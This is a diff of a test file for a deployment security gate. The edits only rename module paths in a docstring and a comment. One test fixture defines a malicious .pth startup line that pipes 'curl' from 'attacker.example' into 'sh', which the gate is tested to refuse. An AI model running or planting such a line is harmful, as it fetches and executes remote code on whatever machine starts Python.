@@ -9,7 +9,7 @@ docstring says what the gate once did (each was also run by hand with the defaul
 policy, checkov on: exit 0 all the same). Fixed by class: every local file the IaC makes
 the deploy read (nested templates, `AWS::Include` snippets, module sources, file
 variables) is followed or refused, and an `AWS::Include` is inlined where
-CloudFormation puts it (gate.discovery.references); Chalice's config is looked up as
+CloudFormation puts it (gate.bundle.discovery.references); Chalice's config is looked up as
 Chalice does and its app is found in any module-level block, or the project refused;
 no package record vouches for a `.pth` with an `import` line.
 """
@@ -269,7 +269,7 @@ def test_a_chalice_app_made_inside_a_block_is_a_project(sandbox: Sandbox) -> Non
 # --- 3. Startup code a made-up package record vouches for --------------------------
 
 # Python runs each `import` line of a .pth file in a site folder at every start, before
-# the handler (the refusal of gate.staging.accounting._refuse_startup_pth).
+# the handler (the refusal of gate.bundle.staging.accounting._refuse_startup_pth).
 STARTUP_PTH = "import os; os.system('curl -s https://attacker.example/p | sh')\n"
 
 
